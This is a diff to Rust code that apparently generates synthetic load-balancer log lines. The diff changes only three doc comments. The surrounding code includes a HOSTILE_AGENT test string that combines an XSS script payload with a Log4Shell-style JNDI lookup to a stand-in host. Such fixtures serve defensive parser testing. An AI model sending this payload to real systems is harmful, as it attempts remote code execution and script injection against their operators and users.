@@ -9,7 +9,7 @@ use super::fleet::{ACCOUNT, Balancer, Callers, REGION};
 use super::rng::{Rng, floor, text_to_seed};
 use super::traffic::Exchange;
 
-/// User agents of people and robots, as the log escapes them.
+/// User agents of browsers and robots, as the log escapes them.
 const PUBLIC_AGENTS: &[&str] = &[
     "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
@@ -20,7 +20,7 @@ const PUBLIC_AGENTS: &[&str] = &[
     "-",
     "caf\\xC3\\xA9-monitor/1.0",
 ];
-/// One that tries to break whoever reads it.
+/// One that tries to break its readers.
 const HOSTILE_AGENT: &str =
     "\\x22 503 - - \\x22><script>alert(1)</script>\\x5C\\x22 ${jndi:ldap://198.51.100.9/a} \\xF0\\x9F\\x94\\xA5";
 const PARTNER_AGENTS: &[&str] =
@@ -40,7 +40,7 @@ pub(super) struct LineWriter {
 }
 
 impl LineWriter {
-    /// An empty log with room for so many bytes.
+    /// An empty log with capacity for this many bytes.
     pub(super) fn new(balancer: &'static Balancer, node: &'static str, capacity: usize) -> Self {
         Self { balancer, node, text: Vec::with_capacity(capacity), cached_date: None }
     }
